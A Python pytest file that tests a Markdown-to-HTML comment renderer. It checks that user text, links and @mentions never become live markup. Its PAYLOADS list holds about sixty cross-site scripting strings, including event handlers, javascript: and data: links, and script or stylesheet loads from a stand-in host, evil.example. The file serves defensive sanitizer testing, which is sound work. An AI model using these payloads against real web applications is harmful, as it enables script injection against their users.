"""The words of a comment as HTML: nothing that somebody types does anything but stand there."""

from html.parser import HTMLParser

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from amity.notices.rendering import TAGS, html, names_in

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror='alert(1)' style='position:fixed'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert`1`//",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>",
    "<a href='javascript:alert(1)'>x</a>",
    "<b onmouseover=alert(1)>x</b>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<style>@import '//evil.example/x.css'</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/x)",
    "[x](https://ok.example 'a\" onclick=\"alert(1)')",
    '[x](https://ok.example"onclick="alert(1))',
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    '![x](https://evil.example/"onerror="alert(1).png)',
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    '<https://ok.example/"onclick=alert(1)>',
    'https://ok.example/"onclick=alert(1)',
    "https://ok.example/'onclick=alert(1)",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "<!-- <script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</p></div></main><script>alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "@<script>alert(1)</script>",
    '@an"onclick="alert(1)',
    "{{constructor.constructor('alert(1)')()}}",
    "\u202e<script>\u2066",
    "<\u0000script>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
]


class Looker(HTMLParser):
    """Notes what a browser would make of some HTML."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.wrong: list[str] = []

    def handle_starttag(self, tag, attrs):
        given = dict(attrs)
        allowed = {"a": {"href", "rel"}, "ol": {"start"}, "strong": {"class"}}.get(tag, set())
        if tag not in TAGS or set(given) - allowed:
            self.wrong.append(self.get_starttag_text() or tag)
        if tag == "a" and not given.get("href", "https:").lower().startswith(("http://", "https://", "mailto:", "/")):
            self.wrong.append(given["href"])
        if given.get("class", "mention") != "mention":
            self.wrong.append(given["class"])

    def handle_decl(self, decl):
        self.wrong.append(decl)

    def handle_comment(self, data):
        self.wrong.append(data)


def wrong_in(text: str, people=None) -> list[str]:
    looker = Looker()
    looker.feed(html(text, people))
    looker.close()
    return looker.wrong


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize(
    "around", ["{}", "Hello {} there", "> {}", "- {}", "**{}**", "[{}](https://ok.example)", "1. {}"]
)
def test_nothing_typed_becomes_code(payload, around):
    assert wrong_in(around.format(payload)) == []


@pytest.mark.parametrize("name", PAYLOADS)
def test_nothing_in_a_name_becomes_code(name):
    assert wrong_in("Hello @an!", {"an": name}) == []


@settings(deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.text(st.sampled_from("<>\"'&()[]!@`*_#\\:/ \n\tajvscriptonload=;ê")) | st.text())
def test_no_text_at_all_becomes_code(text):
    assert wrong_in(text, {"an": text}) == []


def test_an_address_without_a_scheme_is_not_that_of_another_site():
    assert "href" not in html("[x](//evil.example/x)")
    assert 'href="/\\' not in html("[x](/\\evil.example/x)")
    assert 'href="/people/5/"' in html("[x](/people/5/)")


def test_html_stands_as_it_was_typed():
    assert html("<b>bold</b>") == "<p>&lt;b&gt;bold&lt;/b&gt;</p>\n"


def test_what_markdown_offers_is_shown():
    assert html("**a** *b* `c`") == "<p><strong>a</strong> <em>b</em> <code>c</code></p>\n"
    assert html("- a\n- b") == "<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n"
    assert html("3. a\n4. b").startswith('<ol start="3">')
    assert html("> a") == "<blockquote>\n<p>a</p>\n</blockquote>\n"


def test_a_new_line_stays_one():
    assert html("a\nb") == "<p>a<br>\nb</p>\n"


def test_a_heading_and_a_rule_stay_words():
    assert html("# Not a heading") == "<p># Not a heading</p>\n"
    assert "<h" not in html("Title\n=====\n\n***")


def test_a_web_address_becomes_a_link_that_tells_nothing():
    assert html("See https://vufo.org.vn/a?b=1&c=2.") == (
        '<p>See <a href="https://vufo.org.vn/a?b=1&amp;c=2" rel="nofollow noopener noreferrer">'
        "https://vufo.org.vn/a?b=1&amp;c=2</a>.</p>\n"
    )


@pytest.mark.parametrize(
    ("text", "address"),
    [
        ("(https://a.example/b)", "https://a.example/b"),
        ("https://a.example/b_(c)", "https://a.example/b_(c)"),
        ("https://a.example/b, and", "https://a.example/b"),
        ("<https://a.example/b>", "https://a.example/b"),
    ],
)
def test_the_end_of_a_sentence_is_not_part_of_an_address(text, address):
    assert f'href="{address}"' in html(text)


def test_a_mention_shows_the_name_and_is_marked():
    assert html("@an, please", {"an": "An Nguyễn"}) == '<p><strong class="mention">@An Nguyễn</strong>, please</p>\n'


def test_a_name_of_nobody_stays_as_typed():
    assert html("@nobody here") == "<p>@nobody here</p>\n"


@pytest.mark.parametrize(
    ("text", "names"),
    [
        ("@an", ["an"]),
        ("Hi @an and @binh, @an!", ["an", "binh"]),
        ("@nguyễn.văn-a.", ["nguyễn.văn-a"]),
        ("(@an)", ["an"]),
        ("**@an**", ["an"]),
        ("- @an\n- @binh", ["an", "binh"]),
        ("an@example.org", []),
        ("`@an`", []),
        ("```\n@an\n```", []),
        ("[@an](https://a.example)", []),
        ("https://a.example/@an", []),
        ("@", []),
        ("@ an", []),
        ("@an@example.org", ["an@example.org"]),
        ("", []),
    ],
)
def test_names_are_found_in_plain_words_only(text, names):
    assert names_in(text) == names
